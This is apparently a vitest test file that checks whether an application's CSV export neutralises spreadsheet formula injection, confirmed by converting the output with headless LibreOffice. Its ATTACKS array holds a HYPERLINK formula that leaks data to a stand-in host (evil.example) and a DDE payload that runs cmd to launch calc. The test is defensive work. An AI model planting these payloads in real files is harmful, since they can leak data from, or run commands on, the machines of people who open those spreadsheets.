// CSV formula injection, checked in a real spreadsheet: figures whose text cells say =HYPERLINK(…), +cmd|…, @SUM(1),
// -2+3 are exported, and LibreOffice (headless) opens the CSV and saves it as ODS (flat XML) and XLSX. In what it
// saved, none of those cells is a formula, every one keeps its words, and the numeric columns are still numbers.
// A control file with the same cells unneutralised shows that this LibreOffice does turn such cells into formulas
// (so the check can fail). Skips, saying why, only when soffice is not installed (.ci/run installs it).
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TempWorkbook, tempWorkbook } from '../support/tempWorkbook';

const ATTACKS = ['=HYPERLINK("http://evil.example/?leak","click me")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1'];
const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
const HAVE_SOFFICE = soffice.status === 0;
if (!HAVE_SOFFICE) {
  console.log('skipped: LibreOffice (soffice) is not installed — apt-get install -y libreoffice-calc-nogui (.ci/run does)');
}

interface Cell {
  text: string;
  formula: string | null;
  /** ODS: office:value-type; XLSX: t attribute ('n' when absent) */
  type: string;
  value: string | null;
}

const xmlText = (s: string) =>
  s
    .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n: string | undefined) => ' '.repeat(Number(n ?? 1)))
    .replace(/<[^>]+>/g, '')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
const attr = (attrs: string, name: string) => new RegExp(`${name}="([^"]*)"`).exec(attrs)?.[1] ?? null;

/** The first sheet of a flat ODS file as rows of cells (repeated empty cells expanded). */
function readFods(path: string): Cell[][] {
  const xml = readFileSync(path, 'utf8');
  const rows: Cell[][] = [];
  for (const row of xml.matchAll(/<table:table-row\b[^>]*>(.*?)<\/table:table-row>/gs)) {
    const cells: Cell[] = [];
    for (const cell of row[1]!.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)) {
      const attrs = cell[1]!;
      const repeat = Number(attr(attrs, 'table:number-columns-repeated') ?? 1);
      const value: Cell = {
        text: cell[2] ? [...cell[2].matchAll(/<text:p>(.*?)<\/text:p>/gs)].map((p) => xmlText(p[1]!)).join('\n') : '',
        formula: attr(attrs, 'table:formula'),
        type: attr(attrs, 'office:value-type') ?? 'empty',
        value: attr(attrs, 'office:value'),
      };
      for (let i = 0; i < Math.min(repeat, 100); i += 1) cells.push(value);
    }
    rows.push(cells);
  }
  return rows;
}

/** The first sheet of an XLSX file as rows of cells, strings looked up in sharedStrings. */
function readXlsx(path: string): Cell[][] {
  const unzip = (member: string) => execFileSync('unzip', ['-p', path, member], { encoding: 'utf8' });
  const shared = [...unzip('xl/sharedStrings.xml').matchAll(/<si>(.*?)<\/si>/gs)].map((si) =>
    [...si[1]!.matchAll(/<t(?:\s[^>]*)?>(.*?)<\/t>/gs)].map((t) => xmlText(t[1]!)).join(''),
  );
  const rows: Cell[][] = [];
  for (const cell of unzip('xl/worksheets/sheet1.xml').matchAll(/<c\b([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)) {
    const attrs = cell[1]!;
    const ref = attr(attrs, 'r')!;
    const [, letters, digits] = /^([A-Z]+)(\d+)$/.exec(ref)!;
    const column = [...letters!].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
    const type = attr(attrs, 't') ?? 'n';
    const inner = cell[2] ?? '';
    const v = /<v>(.*?)<\/v>/s.exec(inner)?.[1] ?? null;
    const formula = /<f\b[^>]*>(.*?)<\/f>|<f\b[^>]*\/>/s.exec(inner);
    const text = type === 's' ? shared[Number(v)]! : type === 'inlineStr' ? xmlText(/<is>(.*?)<\/is>/s.exec(inner)?.[1] ?? '') : (v ?? '');
    (rows[Number(digits) - 1] ??= [])[column] = { text, formula: formula ? (formula[1] ?? '') : null, type, value: v };
  }
  return rows;
}

/** LibreOffice converts `files` to `format` (fods, xlsx) in `dir`, reading them as UTF-8 comma-separated CSV. */
function convert(dir: string, format: string, files: string[]): void {
  execFileSync(
    'soffice',
    [`-env:UserInstallation=file://${join(dir, 'lo-profile')}`, '--headless', '--infilter=CSV:44,34,76,1', '--convert-to', format, '--outdir', dir, ...files],
    { stdio: 'pipe', timeout: 120_000 },
  );
}

function byHeader(rows: Cell[][]): Array<Record<string, Cell>> {
  const header = rows[0]!.map((c) => c.text);
  return rows
    .slice(1)
    .filter((r) => r.some((c) => c && c.text !== ''))
    .map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? { text: '', formula: null, type: 'empty', value: null }])));
}

describe.skipIf(!HAVE_SOFFICE)('exported CSV opened in LibreOffice', () => {
  let t: TempWorkbook;
  let exported: string;
  let control: string;
  beforeAll(async () => {
    t = await tempWorkbook();
    const metric = (await t.api.listMetrics({})).find((m) => m.code === 'killed_civilian')!.id;
    const source = (await t.api.createSource({ name: ATTACKS[2]!, kind: 'other' })).value.id; // @SUM(1)
    const citation = (await t.api.createCitation({ title: ATTACKS[4]!, publisher: ATTACKS[3]!, url: 'https://example.org/r' })).value.id;
    const location = (await t.api.createLocation({ name: ATTACKS[1]! })).value.id;
    await t.api.createFigure({
      metric_id: metric,
      source_id: source,
      citation_id: citation,
      location_id: location,
      value: 20_000,
      low: 19_000,
      high: 21_500,
      as_of: '2024-05-19',
      excerpt: ATTACKS[0]!,
      note: ATTACKS[1]!,
    });
    await t.api.createFigure({
      metric_id: metric,
      source_id: source,
      citation_id: citation,
      value: 35_456,
      as_of: '2024-05-20',
      excerpt: ATTACKS[3]!,
      note: ATTACKS[2]!,
    });
    exported = join(t.dir, 'exported.csv');
    await t.api.exportCsv({ filter: {}, options: { bom: false, hxl: false }, to: { path: exported } });
    // the same cells as a careless exporter would write them
    control = join(t.dir, 'control.csv');
    writeFileSync(control, `excerpt,value\r\n${ATTACKS.map((a, i) => `"${a.replaceAll('"', '""')}",${i + 1}`).join('\r\n')}\r\n`);
    convert(t.dir, 'fods', [exported, control]);
    convert(t.dir, 'xlsx', [exported]);
  }, 180_000);
  afterAll(() => t?.cleanup());

  it('the control: unneutralised cells do become formulas in this LibreOffice (so the test can fail)', () => {
    const rows = byHeader(readFods(join(t.dir, 'control.fods')));
    expect(rows.filter((r) => r.excerpt!.formula !== null).map((r) => r.excerpt!.formula)).toContain('of:=1+1');
    expect(rows.some((r) => r.excerpt!.formula?.includes('HYPERLINK'))).toBe(true);
  });

  for (const format of ['fods', 'xlsx'] as const) {
    it(`${format}: no cell of the export is a formula; each attack keeps its words as text; value, low and high are numbers`, () => {
      const rows = byHeader(format === 'fods' ? readFods(join(t.dir, 'exported.fods')) : readXlsx(join(t.dir, 'exported.xlsx')));
      expect(rows).toHaveLength(2);
      const all = rows.flatMap((r) => Object.entries(r));
      expect(all.filter(([, c]) => c.formula !== null).map(([column, c]) => `${column}: ${c.formula}`)).toEqual([]);

      const textType = format === 'fods' ? 'string' : 's';
      const seen = new Map<string, string[]>();
      for (const [column, cell] of all) {
        const attack = ATTACKS.find((a) => cell.text === a || cell.text === `'${a}`);
        if (!attack) continue;
        expect(cell.type, `${column} = ${cell.text}`).toBe(textType);
        seen.set(attack, [...(seen.get(attack) ?? []), column]);
      }
      // every attack string reached the spreadsheet as text, in the columns it was written to
      expect([...seen.keys()].sort()).toEqual([...ATTACKS].sort());
      expect(seen.get(ATTACKS[0]!)).toContain('excerpt');
      expect(seen.get(ATTACKS[2]!)).toEqual(expect.arrayContaining(['source', 'note']));
      expect(seen.get(ATTACKS[3]!)).toEqual(expect.arrayContaining(['publisher', 'excerpt']));
      expect(seen.get(ATTACKS[4]!)).toContain('citation_title');

      const numbers = (row: Record<string, Cell>, column: string) => {
        const cell = row[column]!;
        expect(cell.type, `${column} is a number`).toBe(format === 'fods' ? 'float' : 'n');
        return Number(format === 'fods' ? cell.value : cell.value);
      };
      const [first, second] = [...rows].sort((a, b) => numbers(a, 'value') - numbers(b, 'value'));
      expect([numbers(first!, 'value'), numbers(first!, 'low'), numbers(first!, 'high')]).toEqual([20_000, 19_000, 21_500]);
      expect(numbers(second!, 'value')).toBe(35_456);
    });
  }
});
